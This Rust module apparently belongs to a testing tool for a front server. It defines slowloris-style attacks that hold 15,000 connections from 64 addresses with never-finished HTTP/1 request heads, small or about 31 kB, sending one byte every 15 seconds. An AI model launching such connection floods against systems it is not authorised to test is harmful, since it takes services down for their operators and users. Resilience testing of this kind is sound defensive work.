//! Heads of HTTP/1 requests that never end.

use super::Attack;
use super::crowd::Crowd;
use super::target::Target;

/// Bytes of a large head: just below the most that the front reads.
const LARGE_BYTES: usize = 31_000;

pub(super) const SMALL: Attack = Attack {
    name: "heads",
    about: "unfinished HTTP/1 heads of 40 bytes, a byte every 15 s; 64 addresses",
    connections: 15_000,
    addresses: 64,
    begin: |target, attack| begin(target, attack, 20),
    sign_of_life: Some(b"x"),
};

pub(super) const LARGE: Attack = Attack {
    name: "heads-large",
    about: "the same of 31 kB",
    begin: |target, attack| begin(target, attack, LARGE_BYTES),
    ..SMALL
};

fn begin(target: &Target, attack: &Attack, filling: usize) -> anyhow::Result<Crowd> {
    let head = format!("GET / HTTP/1.1\r\nhost: x\r\nx: {}", "a".repeat(filling));
    Crowd::of(target, attack, head.as_bytes())
}
